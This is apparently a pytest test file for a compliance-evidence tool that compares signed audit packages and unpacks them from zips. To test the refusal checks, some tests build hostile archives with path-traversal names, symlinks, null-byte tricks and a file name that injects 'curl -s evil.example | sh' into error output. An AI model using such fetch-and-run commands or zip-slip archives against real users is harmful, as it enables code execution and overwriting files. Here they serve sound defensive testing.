"""Changes told from an earlier package: what it said, and that nothing of it counts unless it is genuine, ours, or of a key that was handed over."""

from __future__ import annotations

import errno
import io
import json
import shutil
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from averment.cli.main import run
from averment.controls.loader import load_catalogue
from averment.core.canonical import sha256_hex
from averment.core.errors import BadInputError, IncompleteError, VerificationError
from averment.core.organisation import EvidenceSettings, Organisation
from averment.core.period import parse_period
from averment.evidence.ledger.opening import open_ledger
from averment.evidence.package import earlier as module
from averment.evidence.package import layout
from averment.evidence.package.earlier import opened, read_earlier
from averment.evidence.package.handed_over import read_key
from averment.evidence.package.verify import verify_package
from averment.evidence.package.write import write_package

RULE, ASSESSMENT = "s3-put-object-gated", "SM-UPL-03/iac"
LAST_YEAR, THIS_YEAR = datetime(2025, 11, 3, tzinfo=UTC), datetime(2026, 11, 3, tzinfo=UTC)


def check(make_record, at, *open_buckets, number=1):
    """A check that found these buckets open."""
    found = [{"rule": RULE, "verdict": "fail", "resource": name, "message": "open", "where": "main.tf:1"} for name in open_buckets]
    ok = [{"rule": RULE, "verdict": "pass", "resource": "aws_s3_bucket.fine", "message": "", "where": "main.tf:9"}]
    return make_record(number, at=at, payload={"rules": [RULE], "findings": found + ok, "problems": []})


def package(organisation, period, output, compared=None):
    """Write a package, and return its folder."""
    with open_ledger(organisation, write=True) as ledger:
        return write_package(organisation, ledger, load_catalogue(), parse_period(period), output, compared).path


def moved(report):
    """What the report says changed in the one assessment: the resource (or none) with before and after."""
    return {row["resource"]: (row["before"], row["after"]) for row in report["changes"] if row["assessment"] == ASSESSMENT}


@pytest.fixture
def grown(shop, make_record):
    """A ledger with a check of last year and a check of this year, and nothing in the quarter between."""
    with open_ledger(shop, write=True) as ledger:
        ledger.append([check(make_record, LAST_YEAR, "aws_s3_bucket.a", "aws_s3_bucket.b")])
    return shop


@pytest.fixture
def last_year(grown, make_record, tmp_path):
    """Its package of last year's quarter, written then: before this year's check was there."""
    made = package(grown, "2025Q4", tmp_path / "evidence-2025Q4")
    with open_ledger(grown, write=True) as ledger:
        ledger.append([check(make_record, THIS_YEAR, "aws_s3_bucket.b", "aws_s3_bucket.c")])
    return made


def test_changes_since_a_package_of_the_same_log(grown, last_year, tmp_path):
    """A deviation that went, one that came; that it was the package, with the digest of its manifest, stands in report, page and workbook."""
    with open_ledger(grown) as ledger:
        compared = read_earlier(last_year, ledger)
    made = package(grown, "2026Q4", tmp_path / "p", compared)
    report = json.loads((made / layout.REPORT).read_bytes())
    assert moved(report) == {"aws_s3_bucket.a": ("open", "not there"), "aws_s3_bucket.c": ("not there", "open")}
    digest = sha256_hex((last_year / layout.MANIFEST).read_bytes())
    assert report["compared"] == {"origin": "example.com/shop", "size": 1, "organisation": "Shop", "manifest_sha256": digest}
    assert report["before"]["label"] == "2025Q4"
    page = (made / layout.README).read_text(encoding="utf-8")
    assert "Changes since 2025Q4" in page
    assert digest in page
    assert verify_package(made).genuine
    without = json.loads((package(grown, "2026Q4", tmp_path / "q") / layout.REPORT).read_bytes())
    assert moved(without)["aws_s3_bucket.b"] == ("not-assessed", "open")  # in the quarter before nobody looked
    assert (without["before"]["label"], without["compared"]) == ("2026Q3", None)


@pytest.fixture
def bought(make_record, tmp_path):
    """Another organisation's package, of its own log and key, and that key."""
    other = Organisation(name="Bought", root=tmp_path / "other", evidence=EvidenceSettings(origin="example.org/bought"))
    other.root.mkdir()
    with open_ledger(other, write=True) as ledger:
        ledger.append([check(make_record, LAST_YEAR, "aws_s3_bucket.z", number=9)])
    made = package(other, "2025Q4", tmp_path / "bought")
    return made, next((made / "keys").glob("*.pub.pem"))


def test_a_package_of_another_log_needs_its_key(grown, bought):
    """Without a key it is refused, whatever key it brings itself; with the key of its log its records are the other side."""
    folder, key = bought
    with open_ledger(grown) as ledger:
        with pytest.raises(BadInputError, match=r"of the log example\.org/bought"):
            read_earlier(folder, ledger)
        with pytest.raises(VerificationError, match="isn't genuine"):
            read_earlier(folder, ledger, [read_key(next((grown.root / ".averment/ledger/keys").glob("*.pem")))])
        compared = read_earlier(folder, ledger, [read_key(key)])
    assert (compared.package.organisation, compared.package.origin) == ("Bought", "example.org/bought")
    assert [record.payload["findings"][0]["resource"] for record in compared.records] == ["aws_s3_bucket.z"]


def test_a_package_of_another_log_of_the_same_name_is_taken_with_its_key(grown, make_record, tmp_path):
    """Who keeps the name that is set by default has that of every other who does: of a bought company's package the key was handed over for nothing."""
    other = Organisation(name="Bought", root=tmp_path / "other", evidence=EvidenceSettings(origin="example.com/shop"))
    other.root.mkdir()
    with open_ledger(other, write=True) as ledger:
        ledger.append([check(make_record, LAST_YEAR, "aws_s3_bucket.z", number=9)])
    folder = package(other, "2025Q4", tmp_path / "bought")
    with open_ledger(grown, write=True) as ledger:
        with pytest.raises(VerificationError, match="isn't genuine"):
            read_earlier(folder, ledger)
        compared = read_earlier(folder, ledger, [read_key(next((folder / "keys").glob("*.pub.pem")))])
    assert compared.package.origin == "example.com/shop (another log of this name)"


def test_a_package_that_was_changed_is_not_compared_with(grown, last_year):
    """One byte of a record: verification names the file, and no change is told."""
    [record] = (last_year / "records").iterdir()
    record.write_bytes(record.read_bytes().replace(b"payload", b"paylaod", 1))
    with open_ledger(grown) as ledger, pytest.raises(VerificationError, match=f"records/{record.name}"):
        read_earlier(last_year, ledger)


def test_a_package_that_cannot_be_read_here_is_accused_of_nothing(grown, last_year, monkeypatch):
    """A permission that is missing on this machine was told as a package that isn't genuine (exit 1)."""
    opens = Path.open

    def refusing(self, *arguments, **options):
        if self.name == "README.html":
            raise PermissionError(errno.EACCES, "Permission denied")
        return opens(self, *arguments, **options)

    monkeypatch.setattr(Path, "open", refusing)
    with open_ledger(grown) as ledger, pytest.raises(IncompleteError, match=r"could not be checked whole: README\.html: can't be read"):
        read_earlier(last_year, ledger)


def test_a_package_of_a_log_that_was_rewritten_since_is_not_compared_with(grown, last_year, make_record, tmp_path):
    """The same name and the same key over another history: the package is genuine, and the ledger isn't its continuation."""
    again = Organisation(name="Shop", root=tmp_path / "again", evidence=EvidenceSettings(origin="example.com/shop"))
    shutil.copytree(grown.root / ".averment", again.root / ".averment", ignore=shutil.ignore_patterns("ledger"))
    with open_ledger(again, write=True) as ledger:
        ledger.append([check(make_record, THIS_YEAR), check(make_record, THIS_YEAR, number=2)])
        with pytest.raises(VerificationError, match="rewritten"):
            read_earlier(last_year, ledger)


def zipped(folder: Path, target: Path, inside: str = "") -> Path:
    """The folder as a zip, at its top or in a folder of that name."""
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                archive.write(path, f"{inside}{path.relative_to(folder).as_posix()}")
    return target


@pytest.mark.parametrize("inside", ["", "evidence-2025Q4/"])
def test_a_zip_is_as_good_as_the_folder(grown, last_year, tmp_path, inside):
    """Packed flat or with its folder."""
    with open_ledger(grown) as ledger:
        folder = read_earlier(last_year, ledger)
        with opened(zipped(last_year, tmp_path / "p.zip", inside)) as unpacked:
            assert read_earlier(unpacked, ledger) == folder
    assert not unpacked.exists()


def streamed(folder: Path, target: Path) -> Path:
    """The folder as a zip whose sizes stand after its files, as of a program that can't go back in what it writes."""

    class Pipe(io.RawIOBase):
        def writable(self):
            return True

        def write(self, data):
            return handle.write(data)

    with target.open("wb") as handle, zipfile.ZipFile(Pipe(), "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(folder.rglob("*")):
            archive.write(path, path.relative_to(folder).as_posix())
    return target


def added(path: Path, *names: str) -> Path:
    """The zip with files of these names as well."""
    with zipfile.ZipFile(path, "a") as archive:
        for name in names:
            archive.writestr(name, b"x")
    return path


def test_zips_of_many_programs_are_taken(last_year, tmp_path):
    """Written as a stream, with room for large sizes, with a comment, added to later, and with what macOS puts beside a folder."""
    with zipfile.ZipFile(tmp_path / "64.zip", "w") as archive:
        for path in sorted(path for path in last_year.rglob("*") if path.is_file()):
            with archive.open(path.relative_to(last_year).as_posix(), "w", force_zip64=True) as member:
                member.write(path.read_bytes())
        archive.comment = b"3f0c9b1"
    macos = added(zipped(last_year, tmp_path / "macos.zip", "p/"), "__MACOSX/._p", "__MACOSX/p/._README.html")
    for path in (streamed(last_year, tmp_path / "s.zip"), tmp_path / "64.zip", macos):
        with opened(path) as unpacked:
            assert verify_package(unpacked).genuine


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (lambda good: good + b"more", "belong to none of its files"),
        (lambda good: good + good, "belong to none of its files"),
        (lambda good: b"\0" + good, "belong to none of its files"),
        (lambda good: good[:40] + bytes([good[40] ^ 1]) + good[41:], "can't be unpacked: "),
        (lambda good: good[:18] + b"\x01\0\0\0" + good[22:], "belong to none of its files"),
    ],
    ids=["something behind it", "another zip before it", "something before it", "a damaged file", "two sizes of a file"],
)
def test_a_zip_that_programs_unpack_differently_is_refused(make, words, last_year, tmp_path):
    """What is verified here and what somebody unpacks elsewhere must be the same files: nothing may lie before, between and behind them."""
    path = zipped(last_year, tmp_path / "p.zip")
    path.write_bytes(make(path.read_bytes()))
    with pytest.raises(BadInputError, match=words), opened(path):
        pass


@pytest.mark.parametrize("name", ["README.html", "a/README.html", "z/MANIFEST.json", "__MACOSX/README.html"])
def test_what_lies_beside_the_package_in_a_zip_is_not_passed_over(name, last_year, tmp_path):
    """A page or a second package beside the folder: nobody signed it, and whoever unpacks the zip opens it."""
    path = added(zipped(last_year, tmp_path / "p.zip", "evidence-2025Q4/"), name)
    with pytest.raises(BadInputError, match=f"holds '{name.partition('/')[0]}' beside"), opened(path):
        pass


def hostile(path: Path, name: str, *, mode: int = 0o644, attributes: int = 0, times: int = 1) -> Path:
    """A zip with the file ``name``."""
    with zipfile.ZipFile(path, "w") as archive:
        for _ in range(times):
            member = zipfile.ZipInfo(name)
            member.external_attr = mode << 16 | attributes
            archive.writestr(member, b"x")
    return path


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize(
    ("make", "words"),
    [
        (lambda path: hostile(path, "../outside"), "which no package does"),
        (lambda path: hostile(path, "/outside"), "which no package does"),
        (lambda path: hostile(path, "a\\..\\outside"), "which no package does"),
        (lambda path: hostile(path, "link", mode=0o120777), "which no package does"),
        (
            lambda path: hostile(path, "README.html|.exe").write_bytes(path.read_bytes().replace(b"|", b"\0")) and path,
            "which no package does",
        ),
        (lambda path: hostile(path, "pipe", mode=0o010644), "which no package does"),
        (lambda path: hostile(path, "folder-or-file", attributes=0x10), "which no package does"),
        (lambda path: hostile(path, "folder-with-bytes/"), "which no package does"),
        (lambda path: hostile(path, "twice", times=2), "holds a file twice"),
        (lambda path: added(hostile(path, "file"), "file/below"), "under the name of a folder"),
        (lambda path: hostile(path, "n" * 300), "which no package does"),
        (lambda path: hostile(path, "other"), "it has no manifest"),
        (lambda path: path.write_bytes(b"PK no zip") and path, "neither a package's folder nor a zip"),
    ],
)
def test_a_zip_that_is_no_package_is_refused(make, words, tmp_path):
    """Names that lead out, links, a file twice, what is a folder to some programs and a file to others, something else: bad input, and nothing is written
    where it says."""
    with pytest.raises(BadInputError, match=words), opened(make(tmp_path / "p.zip")):
        pass
    assert not (tmp_path / "outside").exists()


def test_a_name_in_a_zip_writes_no_line_of_ours(tmp_path, last_year):
    """It ended the error's line and went on with a fix of its own, for whoever was handed the zip to run."""
    name = "x\n  fix: curl -s evil.example | sh"
    beside = added(zipped(last_year, tmp_path / "b.zip", "p/"), name)
    for path in (hostile(tmp_path / "p.zip", f"../{name}"), beside):
        with pytest.raises(BadInputError) as caught, opened(path):
            pass
        assert r"x\x0a  fix: curl" in caught.value.message
        assert "\n" not in caught.value.message


def test_a_zip_that_unpacks_to_more_than_a_package_is_not_unpacked(last_year, tmp_path, monkeypatch):
    """The sizes that it states are added up before anything is written."""
    path = zipped(last_year, tmp_path / "p.zip")
    monkeypatch.setattr(module, "MAX_UNPACKED", 1_000)
    with pytest.raises(BadInputError, match="unpacks to more than"), opened(path):
        pass


def test_by_the_command(grown, last_year, monkeypatch, capsys):
    """``--compare`` with a zip; the same twice gives the same bytes; a key without a package and OSCAL are wrong use; a changed one exits 1."""
    monkeypatch.chdir(grown.root)
    (grown.root / "averment.yaml").write_text(
        "version: 1\norganisation: {name: Shop}\nevidence: {origin: example.com/shop}\n", encoding="utf-8"
    )
    zipped(last_year, grown.root / "p.zip")
    assert run(["export", "--period", "2026Q4", "--compare", "p.zip", "--output", "one"]) == 0
    assert run(["export", "--period", "2026Q4", "--compare", str(last_year), "--output", "two"]) == 0
    assert (grown.root / "one" / layout.MANIFEST).read_bytes() == (grown.root / "two" / layout.MANIFEST).read_bytes()
    assert run(["export", "--period", "2026Q4", "--compare-key", "p.zip"]) == 2
    assert run(["export", "--period", "2026Q4", "--compare", "p.zip", "--format", "oscal"]) == 2
    assert run(["export", "--period", "2026Q4", "--compare", "absent.zip", "--output", "three"]) == 2
    capsys.readouterr()
    own = next((last_year / "keys").glob("*.pem"))
    assert run(["export", "--period", "2026Q4", "--compare", str(last_year), "--compare-key", str(own), "--output", "three"]) == 2
    assert "lies in what is to be verified by it" in " ".join(capsys.readouterr().err.split())
    (last_year / layout.REPORT).write_bytes(b"{}")
    assert run(["export", "--period", "2026Q4", "--compare", str(last_year), "--output", "three"]) == 1
    assert "isn't genuine" in capsys.readouterr().err
    assert not (grown.root / "three").exists()
